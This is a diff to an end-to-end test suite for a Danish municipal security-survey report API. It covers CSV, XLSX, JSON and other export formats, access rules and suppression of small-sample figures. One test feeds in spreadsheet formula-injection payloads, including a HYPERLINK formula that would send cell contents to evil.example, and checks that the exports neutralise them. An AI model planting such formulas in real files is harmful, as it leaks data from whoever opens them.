@@ -1,3 +1,4 @@
+import ExcelJS from 'exceljs';
 import request from 'supertest';
 import { ReportJobsService } from '@app/reports';
 import { StatisticsRecomputeService } from '@app/statistics';
@@ -18,6 +19,25 @@ const binary = (res: request.Response, cb: (err: Error | null, body: Buffer) => 
   res.on('end', () => cb(null, Buffer.concat(chunks)));
 };
 const danish = (v: number) => v.toFixed(2).replace('.', ',');
+/** Splits `;`-separated RFC 4180 text into records (quoted fields may hold `;`, quotes and line ends). */
+function records(csv: string): string[][] {
+  const out: string[][] = [];
+  for (const line of csv
+    .replace(/^\uFEFF/, '')
+    .split('\r\n')
+    .filter(Boolean))
+    out.push(
+      [...line.matchAll(/(?:^|;)("(?:[^"]|"")*"|[^;]*)/g)].map((m) =>
+        m[1].startsWith('"') ? m[1].slice(1, -1).replace(/""/g, '"') : m[1],
+      ),
+    );
+  return out;
+}
+async function workbook(content: Buffer): Promise<ExcelJS.Workbook> {
+  const book = new ExcelJS.Workbook();
+  await book.xlsx.load(content as unknown as ExcelJS.Buffer);
+  return book;
+}
 
 describe('Reports (e2e)', () => {
   let t: TestApp;
@@ -72,30 +92,142 @@ describe('Reports (e2e)', () => {
     expect(json.body.figures.overall).toEqual(stats.body.overall);
     expect(json.body.figures.areas).toEqual(stats.body.areas);
 
-    const csv = await request(t.http)
+    type Question = {
+      key: string;
+      mean: number | null;
+      median: number;
+      q1: number;
+      q3: number;
+      n: number;
+      sd: number;
+    };
+    const own = (key: string) => stats.body.questions.find((q: { key: string }) => q.key === key).own;
+    const shown: Question = national.body.questions.find((q: Question) => q.mean !== null);
+    const comma = (v: number | null) => (v === null ? '–' : String(v).replace('.', ','));
+
+    // The CSV for a Danish Excel: BOM, semicolons, decimal commas, Danish headers.
+    const csvRes = await request(t.http)
       .get(`${base(2024)}/municipalities/151.csv`)
       .auth(officer, { type: 'bearer' })
+      .buffer(true)
+      .parse(binary)
       .expect(200);
-    const lines = csv.text
-      .replace(/^\uFEFF/, '')
-      .trim()
-      .split(/\r?\n/);
-    expect(lines[0]).toBe(
-      'key,text,own_value,national_mean,national_median,national_q1,national_q3,n,suppressed',
+    const bytes = csvRes.body as Buffer;
+    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
+    const csv = bytes.toString('utf8');
+    const [header, ...rows] = records(csv);
+    expect(header.slice(0, 7)).toEqual([
+      'Type',
+      'Område',
+      'Nøgle',
+      'Tekst',
+      'Kommunen',
+      'Landsgennemsnit',
+      'Forskel',
+    ]);
+    const col = (name: string) => header.indexOf(name);
+    const row = (key: string) => rows.find((r) => r[col('Nøgle')] === key)!;
+    // The overall index, every scored area, every question and the number questions.
+    expect(rows[0].slice(0, 1)).toEqual(['Samlet indeks']);
+    expect(rows[0][col('Kommunen')]).toBe(comma(stats.body.overall.own));
+    expect(rows[0][col('Landsgennemsnit')]).toBe(comma(national.body.overall.mean));
+    expect(rows.filter((r) => r[0] === 'Spørgsmål')).toHaveLength(national.body.questions.length);
+    expect(rows.filter((r) => r[0] === 'Talspørgsmål')).toHaveLength(national.body.numbers.length);
+    const area = national.body.areas.find((a: { mean: number | null }) => a.mean !== null);
+    expect(row(area.key)[col('Landsgennemsnit')]).toBe(comma(area.mean));
+    expect(row(shown.key).slice(col('Kommunen'))).toEqual(
+      expect.arrayContaining([comma(own(shown.key)), comma(shown.mean), comma(shown.n)]),
     );
-    expect(lines).toHaveLength(1 + national.body.questions.length);
-    type Question = { key: string; mean: number | null; median: number; q1: number; q3: number; n: number };
-    const own = (key: string) => stats.body.questions.find((q: { key: string }) => q.key === key).own;
-    // A question with every level shown has its figures in the CSV as in the API …
-    const shown: Question = national.body.questions.find((q: Question) => q.mean !== null);
-    expect(lines.find((l) => l.startsWith(`${shown.key},`))).toContain(
-      `,${own(shown.key)},${shown.mean},${shown.median},${shown.q1},${shown.q3},${shown.n},false`,
-    );
-    // … and access.mfa, whose levels 2 and 5 are hidden, has n and no mean, median or quartiles
-    // (they would solve the hidden levels, docs/statistics.md).
+    expect(csv).toMatch(/;\d,\d+;/);
+    expect(csv).not.toMatch(/;\d\.\d+;/);
+    // Sorted by area, in the areas' order.
+    const areaOrder = national.body.areas.map((a: { title: string }) => a.title);
+    const order = rows.filter((r) => r[0] === 'Spørgsmål').map((r) => areaOrder.indexOf(r[1]));
+    expect(order).toEqual([...order].sort((a, b) => a - b));
+    // access.mfa, whose levels 2 and 5 are hidden, has n and no mean, median or quartiles (they
+    // would solve the hidden levels, docs/statistics.md): "–", not an empty cell or 0.
     const mfa: Question = national.body.questions.find((q: Question) => q.key === 'access.mfa');
     expect(mfa).toMatchObject({ mean: null, median: null, q1: null, q3: null, n: 84 });
-    expect(lines.find((l) => l.startsWith('access.mfa,'))).toContain(`,${own('access.mfa')},,,,,84,false`);
+    expect(row('access.mfa')[col('Landsgennemsnit')]).toBe('–');
+    expect(row('access.mfa')[col('Median')]).toBe('–');
+    expect(row('access.mfa')[col('Antal kommuner (n)')]).toBe('84');
+
+    // The CSV for scripts: no BOM, semicolons, dot decimals, English keys, `suppressed`.
+    const machine = await request(t.http)
+      .get(`${base(2024)}/municipalities/151.machine.csv`)
+      .auth(officer, { type: 'bearer' })
+      .expect(200);
+    expect(machine.headers['content-disposition']).toContain('baseline-2024-kommune-151.machine.csv');
+    expect(machine.text.startsWith('type;area_key;key;text;own_value;national_mean;delta;')).toBe(true);
+    const machineRows = records(machine.text);
+    const machineRow = (key: string) => machineRows.find((r) => r[2] === key)!;
+    expect(machineRow(shown.key).slice(4, 6)).toEqual([String(own(shown.key)), String(shown.mean)]);
+    expect(machineRow('access.mfa').slice(5, 6)).toEqual(['']);
+    expect(machineRow('access.mfa').at(-1)).toBe('false');
+
+    // The workbook: typed numbers on the sheets Oversigt, Områder, Spørgsmål.
+    const xlsx = await request(t.http)
+      .get(`${base(2024)}/municipalities/151.xlsx`)
+      .auth(officer, { type: 'bearer' })
+      .buffer(true)
+      .parse(binary)
+      .expect(200);
+    expect(xlsx.headers['content-type']).toBe(
+      'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet',
+    );
+    const book = await workbook(xlsx.body as Buffer);
+    expect(book.worksheets.map((w) => w.name)).toEqual(
+      expect.arrayContaining(['Oversigt', 'Områder', 'Spørgsmål']),
+    );
+    const sheet = book.getWorksheet('Spørgsmål')!;
+    const headers = (sheet.getRow(1).values as unknown[]).slice(1);
+    let found = false;
+    sheet.eachRow((r) => {
+      if (r.getCell(headers.indexOf('Nøgle') + 1).value !== shown.key) return;
+      found = true;
+      const mean = r.getCell(headers.indexOf('Landsgennemsnit') + 1);
+      expect(mean.type).toBe(ExcelJS.ValueType.Number);
+      expect(mean.value).toBe(shown.mean);
+    });
+    expect(found).toBe(true);
+  });
+
+  it('puts no figure in a spreadsheet that the JSON of the same report does not hold', async () => {
+    const numbers = (value: unknown, into: Set<number>): Set<number> => {
+      if (typeof value === 'number') into.add(value);
+      else if (value && typeof value === 'object') Object.values(value).forEach((v) => numbers(v, into));
+      return into;
+    };
+    for (const [file, token] of [
+      ['municipalities/151', officer],
+      ['national', kl],
+    ]) {
+      const get = (format: string) =>
+        request(t.http)
+          .get(`${base(2024)}/${file}.${format}`)
+          .auth(token, { type: 'bearer' })
+          .buffer(true)
+          .parse(binary)
+          .expect(200)
+          .then((r) => r.body as Buffer);
+      const published = numbers(JSON.parse((await get('json')).toString('utf8')), new Set());
+      const machine = records((await get('machine.csv')).toString('utf8'))
+        .slice(1)
+        .flat();
+      const csvFigures = machine.filter((f) => /^-?\d+(\.\d+)?$/.test(f)).map(Number);
+      expect(csvFigures.length).toBeGreaterThan(100);
+      expect(csvFigures.filter((v) => !published.has(v))).toEqual([]);
+      const cells: number[] = [];
+      (await workbook(await get('xlsx'))).eachSheet((sheet) =>
+        sheet.eachRow((row) =>
+          row.eachCell((cell) => {
+            if (typeof cell.value === 'number') cells.push(cell.value);
+          }),
+        ),
+      );
+      expect(cells.length).toBeGreaterThan(100);
+      expect(cells.filter((v) => !published.has(v))).toEqual([]);
+    }
   });
 
   it("prints attacks and breaches in every format as mean and n, never as a median that is one municipality's answer", async () => {
@@ -141,7 +273,7 @@ describe('Reports (e2e)', () => {
     const other = await tokenFor(t.http, await createUser(t.db, 'municipality_officer', 147));
     const cert = await tokenFor(t.http, await createUser(t.db, 'cert_analyst'));
     const admin = await tokenFor(t.http, await createUser(t.db, 'platform_admin'));
-    for (const format of ['pdf', 'csv', 'json', 'html']) {
+    for (const format of ['pdf', 'csv', 'xlsx', 'machine.csv', 'json', 'html']) {
       for (const token of [other, kl, cert, admin]) {
         const res = await request(t.http)
           .get(`${base(2024)}/municipalities/151.${format}`)
@@ -152,10 +284,18 @@ describe('Reports (e2e)', () => {
         .get(`${base(2024)}/municipalities/151.${format}`)
         .expect(401);
     }
-    await request(t.http)
+    const unknown = await request(t.http)
       .get(`${base(2024)}/municipalities/151.exe`)
       .auth(officer, { type: 'bearer' })
       .expect(404);
+    expect(unknown.body.code).toBe('REPORT_FORMAT_UNKNOWN');
+    expect(unknown.body.message).toContain('"exe"');
+    expect(unknown.body.message).toContain('xlsx');
+    const unknownNational = await request(t.http)
+      .get(`${base(2024)}/national.xls`)
+      .auth(kl, { type: 'bearer' })
+      .expect(404);
+    expect(unknownNational.body.message).toContain('"xls"');
     await request(t.http)
       .get(`/api/v1/editions/${ids[2025]}/reports/national.pdf`)
       .auth(kl, { type: 'bearer' })
@@ -219,7 +359,10 @@ describe('Reports (e2e)', () => {
       [ids[2024]],
     );
     expect(stored).toEqual(
-      ['csv', 'html', 'json', 'pdf'].map((format) => ({ format, statistics_version: version })),
+      ['csv', 'html', 'json', 'machine.csv', 'pdf', 'xlsx'].map((format) => ({
+        format,
+        statistics_version: version,
+      })),
     );
 
     const before = await request(t.http)
@@ -236,7 +379,7 @@ describe('Reports (e2e)', () => {
     );
   });
 
-  it('neutralises question texts that a spreadsheet would run as formulas, in every CSV export', async () => {
+  it('neutralises question texts that a spreadsheet would run as formulas, in the CSVs and the workbook', async () => {
     const hostile: Record<string, string> = {
       'a.one': '=HYPERLINK("https://evil.example/?leak="&A1,"Klik")',
       'a.two': '-2+3',
@@ -255,25 +398,83 @@ describe('Reports (e2e)', () => {
     await request(t.http).post(`/api/v1/editions/${id}/publish`).auth(kl, { type: 'bearer' }).expect(200);
     await t.app.get(StatisticsRecomputeService).run(id);
     const officer101 = await tokenFor(t.http, await createUser(t.db, 'municipality_officer', 101));
-    for (const [path, token] of [
-      ['national.csv', kl],
-      ['municipalities/101.csv', officer101],
+    const NUMBER = { csv: /^-?\d+(,\d+)?$/, 'machine.csv': /^-?\d+(\.\d+)?$/ };
+    for (const [file, token] of [
+      ['national', kl],
+      ['municipalities/101', officer101],
     ]) {
-      const csv = await request(t.http)
-        .get(`/api/v1/editions/${id}/reports/${path}`)
+      for (const format of ['csv', 'machine.csv'] as const) {
+        const csv = await request(t.http)
+          .get(`/api/v1/editions/${id}/reports/${file}.${format}`)
+          .auth(token, { type: 'bearer' })
+          .expect(200);
+        const fields = records(csv.text).flat();
+        expect(fields).toContain('a.one');
+        // No text field starts with = + - @, a tab or a CR; only numbers such as -0,35 may start with -.
+        expect(fields.filter((f) => /^[=+\-@\t\r]/.test(f) && !NUMBER[format].test(f))).toEqual([]);
+        for (const text of Object.values(hostile)) expect(fields).toContain(`'${text}`);
+        expect(csv.text).toContain(`;"'=HYPERLINK(""https://evil.example/?leak=""&A1,""Klik"")";`);
+      }
+      const xlsx = await request(t.http)
+        .get(`/api/v1/editions/${id}/reports/${file}.xlsx`)
         .auth(token, { type: 'bearer' })
+        .buffer(true)
+        .parse(binary)
         .expect(200);
-      const cells = csv.text
-        .replace(/^\uFEFF/, '')
-        .trim()
-        .split('\r\n')
-        .map((line) => line.split(',')[0]);
-      expect(cells).toContain('a.one');
-      // A cell a spreadsheet runs starts (after the opening quote, if quoted) with = + - or @.
-      expect(csv.text).not.toMatch(/(^|,|\r\n)"?[=+\-@]/);
-      expect(csv.text).toContain(`,"'=HYPERLINK(""https://evil.example/?leak=""&A1,""Klik"")",`);
-      expect(csv.text).toContain(`,"'-2+3",`);
-      expect(csv.text).toContain(`,"'@SUM(1,2)",`);
+      const texts: ExcelJS.Cell[] = [];
+      (await workbook(xlsx.body as Buffer)).eachSheet((sheet) =>
+        sheet.eachRow((row) =>
+          row.eachCell((cell) => {
+            if (Object.values(hostile).includes(cell.value as string)) texts.push(cell);
+          }),
+        ),
+      );
+      // Each hostile text is there as it was written: a text cell in text format, never a formula.
+      expect(new Set(texts.map((c) => c.value))).toEqual(new Set(Object.values(hostile)));
+      for (const cell of texts) {
+        expect(cell.type).toBe(ExcelJS.ValueType.String);
+        expect(cell.formula).toBeUndefined();
+        expect(cell.numFmt).toBe('@');
+      }
     }
+  });
+
+  it('never reveals a hidden figure: every format of a small edition marks it, none prints it', async () => {
+    // Six municipalities answer; b.one only two of them, so its national figures are hidden.
+    const def = miniQuestionnaire({ key: 'b.one' });
+    const answers = Object.fromEntries(
+      [101, 147, 151, 153, 155, 157].map((code, i) => [
+        code,
+        { 'a.one': 1 + (i % 5), 'a.two': 2, 'n.attacks': 4, ...(i < 2 ? { 'b.one': 5 } : {}) },
+      ]),
+    );
+    const id = await createMiniEdition(t.db, t.app.get(EditionsService), 2032, def, answers);
+    await request(t.http).post(`/api/v1/editions/${id}/publish`).auth(kl, { type: 'bearer' }).expect(200);
+    await t.app.get(StatisticsRecomputeService).run(id);
+    const json = await request(t.http)
+      .get(`/api/v1/editions/${id}/reports/national.json`)
+      .auth(kl, { type: 'bearer' })
+      .expect(200);
+    const hidden = json.body.national.questions.find((q: { key: string }) => q.key === 'b.one');
+    expect(hidden).toMatchObject({ suppressed: true, mean: null, n: null });
+    const get = (format: string) =>
+      request(t.http)
+        .get(`/api/v1/editions/${id}/reports/national.${format}`)
+        .auth(kl, { type: 'bearer' })
+        .buffer(true)
+        .parse(binary)
+        .expect(200)
+        .then((r) => r.body as Buffer);
+    const danishRow = records((await get('csv')).toString('utf8')).find((r) => r[2] === 'b.one')!;
+    expect(danishRow.slice(4)).toEqual([...Array(6).fill('Skjult (færre end 5 kommuner)'), '']);
+    const machineRow = records((await get('machine.csv')).toString('utf8')).find((r) => r[2] === 'b.one')!;
+    expect(machineRow.slice(4)).toEqual(['', '', '', '', '', '', '', 'true']);
+    const sheet = (await workbook(await get('xlsx'))).getWorksheet('Spørgsmål')!;
+    const values: unknown[] = [];
+    sheet.eachRow((row) => {
+      if (row.getCell(2).value === 'b.one') values.push(...(row.values as unknown[]).slice(4));
+    });
+    expect(values.length).toBeGreaterThan(0);
+    expect(values.every((v) => v === 'Skjult (færre end 5 kommuner)')).toBe(true);
   });
 });
